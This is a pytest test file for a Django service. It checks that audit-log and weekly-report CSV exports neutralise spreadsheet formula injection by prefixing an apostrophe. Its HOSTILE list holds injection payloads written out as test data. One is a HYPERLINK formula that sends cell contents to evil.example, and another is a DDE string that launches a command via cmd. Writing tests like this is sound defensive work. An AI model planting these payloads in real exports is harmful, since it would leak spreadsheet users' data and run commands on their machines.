"""Text that a spreadsheet would run as a formula (=, +, -, @, tab, CR) leaves every CSV
export with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from apps.reports.models import WeeklyReport
from testkit.clients import api_as
from testkit.factories import quota, set_policy

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    for value in HOSTILE:
        assert value not in cells
        assert "'" + value in cells


def _download(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_it_neutralises_reasons_in_the_audit_exports(queue, admin, client):
    for index, reason in enumerate(HOSTILE):
        set_policy(queue, admin, reason=reason, quotas=[quota("h100", str(index + 1))])
    _assert_neutralised(_cells(_download(api_as(admin).get("/api/v1/audit/export/"))))
    client.force_login(admin)
    _assert_neutralised(_cells(_download(client.get("/audit/?format=csv"))))
    _assert_neutralised(
        _cells(_download(client.get(f"/teams/{queue.team.slug}/audit/?format=csv")))
    )


@pytest.fixture
def report(team):
    data = {"waits": [], "requeue_waits": [], "starvation": [], "utilisation": [], "gaps": []}
    data.update(fairness={"teams": [], "queues": []}, cost={"teams": [], "prices": []})
    data.update(preemption={"events": [], "teams": [], "pairs": []}, fragmentation={})
    data["gaps"] = [{"panel": value, "delta": -3} for value in HOSTILE]
    return WeeklyReport.objects.create(week="2026-W47", data=data, totals={})


def test_it_neutralises_text_in_the_report_exports(report, admin, client):
    client.force_login(admin)
    cells = _cells(_download(client.get("/reports/2026-W47/report.csv")))
    _assert_neutralised(cells)
    assert "-3" in cells  # a number is not a formula
    out = io.StringIO()
    call_command("report", week="2026-W47", format="csv", stdout=out)
    _assert_neutralised(_cells(out.getvalue()))
